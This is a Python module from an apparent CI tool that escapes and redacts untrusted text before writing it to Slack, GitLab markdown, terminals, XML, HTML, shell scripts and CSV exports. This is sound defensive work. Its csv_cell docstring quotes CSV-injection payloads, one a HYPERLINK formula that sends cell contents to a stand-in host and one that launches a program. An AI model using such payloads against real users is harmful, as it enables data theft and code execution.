"""Escaping per output format: text from artifacts, logs and test names is hostile.

Check names, gate names, reasons, log lines and diagnoses come from code under
test, forks and third-party tools. Every place where such text leaves
gatekeeper goes through one function here, chosen by the reader of the output:

- Slack mrkdwn: ``&``, ``<``, ``>`` as entities (so no ``<!channel>``,
  ``<@U123>`` or ``<url|spoof>``), broadcast words (``@here``) broken, code
  spans and blocks without backticks of their own (a look-alike instead).
- GitLab markdown: HTML as entities, markdown punctuation backslash-escaped
  (no ``[text](url)``, no emphasis, no table cell break), ``@`` mentions and
  ``/`` quick actions broken, code blocks fenced longer than any backtick run
  inside them; no line of any of them starts with ``/`` (a quick action).
- Terminal: control characters (escape sequences, carriage returns, bidi
  overrides) shown as ``\\xNN`` instead of being interpreted.
- XML 1.0: characters the format cannot carry shown as ``\\xNN``.
- POSIX shell (a generated script): each word single-quoted (``shlex.quote``).
- CSV (a spreadsheet export): a cell that starts a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
  return) starts with ``'`` instead, so a spreadsheet shows it as text.

Every function for a rendered format (markdown, Slack, HTML, shell, CSV) redacts its text first
(``gatekeeper.core.redact``): once escaped, a secret's shape is no longer one the
redactor knows (``\\{'Authorization': ...``, ``&#x27;password&#x27;``), so the
redaction of the written file or message would come too late.

Mentions are broken with a zero-width space after the ``@``: GitLab and Slack
find mentions in the *rendered* text, so a backslash or an entity would not stop
them, and a code span would change how the text looks.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable
from urllib.parse import quote, urlsplit

from gatekeeper.core.redact import redact

__all__ = [
    "CONTROL_CHARS",
    "ZWSP",
    "control_char",
    "csv_cell",
    "html_text",
    "html_url",
    "md_code_block",
    "md_code_span",
    "md_link",
    "md_text",
    "md_url",
    "shell",
    "shell_join",
    "slack_code",
    "slack_code_block",
    "slack_link",
    "slack_text",
    "terminal",
    "terminal_lines",
    "xml_text",
]

ZWSP = "\u200b"

# Every C0 control (tab and newline included), DEL, C1 controls; plus the bidi embeddings, overrides,
# isolates and marks that reorder what a reader sees ("trojan source"). As regular-expression text (the
# same in Python's ``re`` and in a JSON Schema ``pattern``): the one definition of "a control character".
CONTROL_CHARS = r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]"
_CONTROL_NO_NEWLINE = re.compile(CONTROL_CHARS)
# The same but tab and newline, which a multi-line text may keep.
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
# XML 1.0 Char: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
# Bidi and other format characters are legal XML but still reorder a reader's view.
_XML_ALSO = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _visible(match: re.Match[str]) -> str:
    code = ord(match.group(0))
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def control_char(text: object) -> str | None:
    """The first control character of ``text`` (``CONTROL_CHARS``: tab and newline too) as ``\\xNN`` or
    ``\\uNNNN``, or None. A field that holds one name or version (a stage's environment) refuses such text:
    it is read as corrupt or forged input, never shown escaped (docs/security.md)."""
    match = _CONTROL_NO_NEWLINE.search(text) if isinstance(text, str) else None
    return _visible(match) if match else None


def terminal(text: str, *, newlines: bool = True) -> str:
    """``text`` safe to print: control characters become ``\\xNN`` (newlines kept unless ``newlines=False``)."""
    return (_CONTROL if newlines else _CONTROL_NO_NEWLINE).sub(_visible, str(text))


def terminal_lines(lines: Iterable[object]) -> str:
    """Lines for a terminal or a job log, joined by newlines, each escaped on its own (``newlines=False``): a value
    inside one (a check's name, a recorded commit or image) with a newline in it cannot start a line of its own,
    such as a forged ``gatekeeper: blocking gate NAME: CATEGORY on ...`` that ``gatekeeper analyze`` reads from
    the job log as the failure's category (docs/security.md, "Findings of the 2026-12-04 audit, second pass")."""
    return "\n".join(terminal(str(line), newlines=False) for line in lines)


def xml_text(text: str) -> str:
    """``text`` an XML 1.0 document can carry; ElementTree escapes ``<&>`` itself."""
    return _XML_ALSO.sub(_visible, _NOT_XML.sub(_visible, str(text)))


# ------------------------------------------------------------------ Slack mrkdwn

_SLACK_BROADCAST = re.compile(r"@(?=[A-Za-z0-9_])")


def _one_line(text: str) -> str:
    return " ".join(terminal(text, newlines=False).split()) if text else ""


def slack_text(text: str, *, multiline: bool = False) -> str:
    """Plain text inside a Slack mrkdwn field: no mention, link, or broadcast can come out of it.

    Slack's own rule (https://api.slack.com/reference/surfaces/formatting#escaping)
    is ``&`` ``<`` ``>`` as entities; ``@here``-style words are broken too,
    because clients with ``link_names`` turn them into broadcasts.
    """
    text = terminal(redact(str(text))) if multiline else _one_line(redact(str(text)))
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    # Slack has no escape for a backtick: a look-alike, so the text cannot open or close code formatting.
    return _SLACK_BROADCAST.sub("@" + ZWSP, text).replace("`", "\u02cb")


def slack_code(text: str) -> str:
    """Text for inside a Slack code span or block (slack_text already keeps backticks out)."""
    return slack_text(text)


def slack_code_block(lines: Iterable[str]) -> str:
    """A Slack ``` block whose content cannot close it."""
    body = "\n".join(slack_code(line) for line in lines)
    return f"```{body}```"


_SAFE_URL = re.compile(r"https?://[^\s<>|\"'`]+")


def _safe_url(url: str) -> str | None:
    url = str(url).strip()
    # not printable: a control character, or a lone surrogate (JSON's "\ud800"), which cannot be percent-encoded
    if not _SAFE_URL.fullmatch(url) or not url.isprintable():
        return None
    try:
        parts = urlsplit(url)
    except ValueError:  # e.g. "http://[" (an unclosed IPv6 host)
        return None
    if parts.scheme not in ("http", "https") or not parts.netloc:
        return None
    return url


def slack_link(url: str | None, label: str) -> str:
    """``<url|label>`` for an http(s) URL; anything else is shown as escaped text, never linked."""
    safe = _safe_url(url) if url else None
    if safe is None:
        return slack_text(f"{label} {url}" if url else label)
    return f"<{safe.replace('&', '&amp;')}|{slack_text(label)}>"


# ------------------------------------------------------------------ GitLab markdown

# CommonMark lets any ASCII punctuation be backslash-escaped; these are the ones
# that start markup (emphasis, links, images, code, tables, headings, lists, refs).
_MD_PUNCT = re.compile(r"([\\`*{}\[\]()|~]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9]))")  # intraword _ is never emphasis
_MD_LIST = re.compile(r"^(\d+)([.)])(?=\s|$)")
_MD_BLOCK = re.compile(r"^([#+>-])(?=[\s#]|$)")
# @user/@all notify; #1 !1 &1 %m $1 ~l ^ reference issues, MRs, epics, milestones, snippets and labels
# (a cross-reference posts a "mentioned in" note there). A zero-width space after the sigil breaks both.
_MD_REFERENCE = re.compile(r"([@#!&%$~^])(?=[A-Za-z0-9_\"])")


def md_text(text: str) -> str:
    """One line of GitLab markdown that shows ``text`` literally: no HTML, link, mention, markup or quick action."""
    text = _MD_REFERENCE.sub("\\1" + ZWSP, _one_line(redact(str(text))))
    # "<" as an entity is enough for HTML: a ">" cannot close a tag nobody opened.
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    text = _MD_BLOCK.sub(r"\\\1", _MD_LIST.sub(r"\1\\\2", _MD_PUNCT.sub(r"\\\1", text)))
    # A quick action (/close, /merge) only runs at the start of a line; a note line never starts with our text's "/".
    return "\\" + text if text.startswith("/") else text


def md_code_span(text: str) -> str:
    """An inline code span that ``text`` cannot close (its delimiter is longer than any backtick run inside)."""
    text = _one_line(redact(str(text))).replace("|", "\\|")  # a table cell ends at an unescaped pipe, even in code
    if not text:
        return "` `"
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or longest else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def md_code_block(lines: Iterable[str], info: str = "") -> str:
    """A fenced code block no line can close: the fence is longer than any backtick run in the lines.

    Inside a fence GitLab renders no HTML, mentions or quick actions, so a
    ``</details>`` or ``@all`` in a log line stays text. A line that starts with
    ``/`` is still indented by one space: GitLab finds quick actions with a
    pattern of its own, which need not see a longer fence (four backticks or
    more) as code, and a quick action runs only at the very start of a line.
    """
    body = [terminal(redact(str(line)), newlines=False) for line in lines]
    body = [" " + line if line.startswith("/") else line for line in body]
    longest = max((len(m) for line in body for m in re.findall(r"`{3,}", line)), default=0)
    fence = "`" * max(3, longest + 1)
    info = re.sub(r"[^A-Za-z0-9_+-]", "", info)
    return "\n".join([fence + info, *body, fence])


def md_url(url: str | None) -> str | None:
    """An http(s) URL safe inside ``(...)`` of a markdown link, or None (then show no link)."""
    safe = _safe_url(url) if url else None
    return None if safe is None else quote(safe, safe=":/?#[]@!$&'*+,;=%~-._")


def md_link(url: str | None, label: str) -> str:
    """``[label](url)`` for an http(s) URL; else the label (and URL) as escaped text."""
    safe = md_url(url)
    if safe is None:
        return md_text(f"{label} {url}" if url else label)
    safe = safe.replace("(", "%28").replace(")", "%29")
    return f"[{md_text(label)}]({safe})"


# ------------------------------------------------------------------ HTML


def html_text(text: object) -> str:
    """Text or an attribute value in HTML: redacted, then ``&<>"'`` as entities."""
    import html  # here, not at the top: its entity table (0.5 MB) is for the HTML writers alone

    return html.escape(redact(str(text)))


def html_url(url: object) -> str | None:
    """An http(s) URL as an HTML attribute value (redacted, escaped), or None (then show no link): a
    ``javascript:`` or ``data:`` URL from a file never becomes an ``href``, whatever the page's CSP does."""
    safe = _safe_url(redact(str(url))) if url else None
    return None if safe is None else html_text(safe)


# ------------------------------------------------------------------ CSV

_CSV_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(text: object) -> str:
    """One cell of a CSV export: redacted, and a leading ``= + - @`` (or tab, carriage return) behind a ``'``.

    A spreadsheet runs a cell that starts so as a formula: ``=HYPERLINK("https://x.invalid/?"&B2, "report")``
    sends other cells away when clicked, ``=cmd|' /C calc'!A1`` starts a program in older Excel (OWASP, "CSV
    injection"). The csv module quotes separators, quotes and newlines; this is the rest.
    """
    cell = redact(str(text))
    return "'" + cell if cell.startswith(_CSV_FORMULA) else cell


# ------------------------------------------------------------------ shell


def shell(text: object) -> str:
    """One word of a generated shell script: redacted, then single-quoted (``shlex.quote``). Quoted first,
    ``{'Authorization': 'Bearer ...'}`` becomes ``'{'"'"'Authorization'"'"': ...`` and no longer redacts."""
    return shlex.quote(redact(str(text)))


def shell_join(argv: Iterable[object]) -> str:
    """A command line of words, each as ``shell`` writes it."""
    return " ".join(shell(a) for a in argv)
